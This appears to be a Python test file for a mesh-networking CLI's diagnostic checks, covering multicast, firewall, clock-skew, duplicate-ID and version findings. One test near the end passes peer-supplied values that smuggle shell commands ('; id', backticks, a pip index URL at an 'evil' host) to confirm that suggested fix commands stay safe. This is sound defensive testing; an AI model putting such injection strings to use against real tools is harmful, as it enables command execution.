"""What a survey means: the cause, and not its symptoms."""

import re
from dataclasses import replace
from datetime import UTC, datetime
from ipaddress import IPv4Address, IPv4Network
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from dstack_cli.checkup.agents import judge_agents
from dstack_cli.checkup.agreement import judge_clocks, judge_ids, judge_versions
from dstack_cli.checkup.finding import Finding, Grade
from dstack_cli.checkup.knock import Door
from dstack_cli.checkup.multicast import judge_multicast
from dstack_cli.checkup.sights import Hello, Sights, Way
from dstack_cli.checkup.table import judged
from dstack_cli.checkup.whereabouts import judge_whereabouts
from dstack_mesh.card import PROTOCOL, HelloAnswer, PeerCard, PeerHint
from dstack_mesh.discovery.ear import Earshot
from dstack_mesh.discovery.interfaces import Interface
from dstack_mesh.ids import Address, MeshId, PeerId
from dstack_mesh.machine import AgentState, Machine
from dstack_mesh.trust.membership import Membership, Role

NOW = datetime(2026, 1, 1, tzinfo=UTC)
OWN = PeerId("o" * 32)
MESH = MeshId("m" * 32)
MACHINE = Machine(cpus=4, memory_bytes=8 << 30, memory_free_bytes=1, disk_free_bytes=1)
MEMBERSHIP = Membership(MESH, "lab", Role.RUNNER, OWN, b"k", NOW, NOW, Path("/keys"))


def interface(name: str, network: str, **more: bool) -> Interface:
    first = f"{network}.1"
    inside = IPv4Network(f"{network}.0/24")
    return Interface(name, True, False, False, (IPv4Address(first),), networks=(inside,), **more)


ETH = interface("eth0", "10.0.0")
HEALTHY_EAR = Earshot("eth0", "", True, frozenset())


def answer(
    peer_id: PeerId, name: str, *addresses: str, knows: tuple[PeerId, ...] = (), version: str = "1"
) -> HelloAnswer:
    card = PeerCard(peer_id, MESH, name, tuple(map(Address, addresses)), version, agent=True)
    known = tuple(PeerHint(one, ()) for one in knows)
    return HelloAnswer(card, AgentState.ALIVE, MACHINE, (), known, NOW)


def way(
    address: str,
    peer_id: str = "",
    *,
    ahead: float | None = 0.0,
    version: str = "1",
    **more: object,
) -> Way:
    """A way; with an id it is answered."""
    found = Way(Address(address), frozenset({"mdns"}), heard_on=frozenset({"eth0"}))
    if peer_id:
        answered = answer(PeerId(peer_id * 32), f"ws-{peer_id}", address, version=version)
        found = replace(found, hello=Hello(answered, ahead, 0.01))
    return replace(found, **more)  # pyright: ignore[reportArgumentType]


def sights(*ways: Way, **more: object) -> Sights:
    seen = Sights(OWN, "1", MEMBERSHIP, True, (ETH,), (HEALTHY_EAR,), ways, None)
    return replace(seen, **more)  # pyright: ignore[reportArgumentType]


def only(findings: list[Finding] | tuple[Finding, ...]) -> Finding:
    (one,) = findings
    return one


def test_a_healthy_lab_has_no_trouble() -> None:
    seen = sights(way("10.0.0.2:1", "a"), way("10.0.0.3:1", "b"))
    assert {one.grade for one in judged(seen, {})} == {Grade.PASS}


def test_nobody_announces_is_no_blocked_multicast() -> None:
    assert only([*judge_multicast(sights())]).grade is Grade.PASS


def test_sent_and_not_heard_needs_somebody_who_announces() -> None:
    unheard = way("10.0.0.2:1", "a", heard_on=frozenset[str](), announces=True)
    found = only([*judge_multicast(sights(unheard))])
    assert (found.grade, found.cause) == (Grade.FAIL, "mdns-blocked")
    quiet = replace(unheard, announces=False)
    assert only([*judge_multicast(sights(quiet))]).cause == "mdns-silent"
    afar = way("172.16.9.9:1", "a", heard_on=frozenset[str](), announces=True)
    assert only([*judge_multicast(sights(afar))]).grade is Grade.PASS, "behind a router"


def test_a_machine_whose_only_way_out_is_a_vpn_is_told() -> None:
    tunnel = interface("wg0", "10.8.0", point_to_point=True, multicast=False)
    seen = sights(interfaces=(tunnel,), earshots=())
    assert only([*judge_multicast(seen)]).cause == "vpn-only"


def test_an_agent_that_one_address_leads_to_has_no_trouble_with_its_others() -> None:
    dead = way(
        "10.9.0.2:1", expected=PeerId("a" * 32), door=Door.DROPPED, found_by=frozenset({"peer"})
    )
    found = judge_agents(sights(way("10.0.0.2:1", "a"), dead))
    assert {one.grade for one in found} == {Grade.PASS}
    assert "10.9.0.2:1: dropped" in found[0].message


def test_an_agent_that_no_address_leads_to_is_told_once() -> None:
    ways = [
        way(f"10.0.0.{host}:1", expected=PeerId("a" * 32), door=Door.DROPPED, name="ws-a")
        for host in (2, 3)
    ]
    bad = [one for one in judge_agents(sights(*ways)) if one.grade is not Grade.PASS]
    assert [(one.check, one.cause) for one in bad] == [("agent ws-a", "firewall")]


def test_a_refusing_address_of_an_agent_that_listens_elsewhere_is_one_finding() -> None:
    listens = way("10.9.0.2:1", "a", heard_on=frozenset[str]())
    announced = way("10.0.0.2:1", door=Door.REFUSED)
    seen = sights(listens, announced)
    assert only([*judge_whereabouts(seen)]).cause == "wrong-interface"
    assert {one.grade for one in judge_agents(seen)} == {Grade.PASS}


def test_an_own_agent_on_dockers_bridge_or_away_from_all_others_is_told() -> None:
    docker = interface("docker0", "172.17.0")
    second = interface("eth1", "10.9.0")
    other = way("10.0.0.2:1", "a")
    for on in (docker, second):
        local = answer(OWN, "here", f"{on.addresses[0]}:1")
        seen = sights(other, interfaces=(ETH, on), local=local)
        assert only([*judge_whereabouts(seen)]).cause == "wrong-interface", on.name
    local = answer(OWN, "here", "10.0.0.1:1")
    assert only([*judge_whereabouts(sights(other, local=local))]).grade is Grade.PASS


def test_whom_those_that_it_reaches_cannot_call_is_not_reached() -> None:
    there = PeerId("a" * 32)
    local = answer(OWN, "here", "10.0.0.1:7420", knows=(there,))
    deaf = sights(way("10.0.0.2:1", "a"), local=local, reached={there: False})
    causes = {one.cause for one in judge_agents(deaf)}
    assert "firewall-inbound" in causes
    heard = replace(deaf, reached={there: True})
    assert {one.grade for one in judge_agents(heard)} == {Grade.PASS}


def test_a_peer_that_does_not_say_its_time_is_not_taken_to_be_exact() -> None:
    seen = [way("10.0.0.2:1", "a", ahead=60), way("10.0.0.3:1", "b", ahead=None)]
    found = only([*judge_clocks(sights(*seen))])
    assert found.cause == "clock-off" and "no majority" in found.message
    assert not judge_clocks(sights(way("10.0.0.3:1", "b", ahead=None)))


def test_two_clocks_that_differ_have_no_majority() -> None:
    found = only([*judge_clocks(sights(way("10.0.0.2:1", "a", ahead=60)))])
    assert found.cause == "clock-off" and "no majority" in found.message


@given(
    st.integers(2, 9),
    st.floats(-4, 4).flatmap(lambda base: st.tuples(st.just(base), st.floats(20, 1e6))),
    st.booleans(),
)
def test_the_minority_is_off_whoever_it_is(
    many: int, clocks: tuple[float, float], ours: bool
) -> None:
    right, off = clocks
    letters = "abcdefghijk"
    ahead = [off] * many if ours else [right / 2] * (many - 1) + [off]
    ways = [way(f"10.0.0.{at + 2}:1", letters[at], ahead=by) for at, by in enumerate(ahead)]
    found = only([*judge_clocks(sights(*ways))])
    assert found.cause == "clock-off"
    if many == 2 and not ours:
        assert "ws-b" in found.message
    assert ("this machine's clock" in found.message) == ours


def test_two_machines_with_one_id_are_told_and_one_with_two_addresses_is_not() -> None:
    copies = [way("10.0.0.2:1", "a"), way("10.0.0.3:1", "a")]
    assert only([*judge_ids(sights(*copies))]).cause == "duplicate-id"
    both = answer(PeerId("a" * 32), "ws-a", "10.0.0.2:1", "10.0.0.3:1")
    hello = Hello(both, 0.0, 0.01)
    one_machine = [replace(each, hello=hello) for each in copies]
    assert only([*judge_ids(sights(*one_machine))]).grade is Grade.PASS


def test_our_own_id_on_another_machine_is_a_copy_and_on_this_one_is_us() -> None:
    def ours(address: str) -> Way:
        hello = Hello(answer(OWN, "here", address), 0.0, 0.01)
        return replace(way(address), hello=hello)

    assert only([*judge_ids(sights(ours("10.0.0.7:1")))]).cause == "duplicate-id"
    assert only([*judge_ids(sights(ours("10.0.0.1:1")))]).grade is Grade.PASS


def test_versions_are_compared_as_numbers() -> None:
    found = only(
        [*judge_versions(sights(way("10.0.0.2:1", "a", version="0.10.0"), version="0.9.0"))]
    )
    assert found.fix == "here: pip install -U dstack-mesh==0.10.0"


def test_what_others_say_of_themselves_is_no_command_in_what_is_pasted() -> None:
    version = "9.9 --index-url http://evil; id"
    found = only([*judge_versions(sights(way("10.0.0.2:1", "a", version=version), version="0.9"))])
    assert found.fix == "here: pip install -U dstack-mesh"
    for door in set(Door) - {Door.OPEN}:
        told = way("10.0.0.2;id:1`id`", name="ws-a", door=door, expected=PeerId("a" * 32))
        for one in judge_agents(sights(told)):
            unquoted = re.sub(r"'[^']*'", "", one.fix)
            assert ";id" not in unquoted and "`" not in unquoted, one.fix


def test_a_seed_that_is_this_machine_itself_is_not_told_as_none() -> None:
    seed = way("10.0.0.1:9", found_by=frozenset({"seed"}), door=Door.REFUSED)
    assert "no seed but this machine itself (10.0.0.1:9)" in judge_agents(sights(seed))[0].message
    assert "no seed, no memory" in judge_agents(sights())[0].message


def test_software_that_the_mesh_no_longer_gives_work_is_told() -> None:
    seen = sights(way("10.0.0.2:1", "a"), required=PROTOCOL + 1)
    causes = [(one.grade, one.cause) for one in judge_versions(seen)]
    assert causes == [(Grade.FAIL, "version-skew")] * 2, "the agent's and our own"
    new_enough = replace(seen, required=PROTOCOL)
    assert {one.grade for one in judge_versions(new_enough)} == {Grade.PASS}
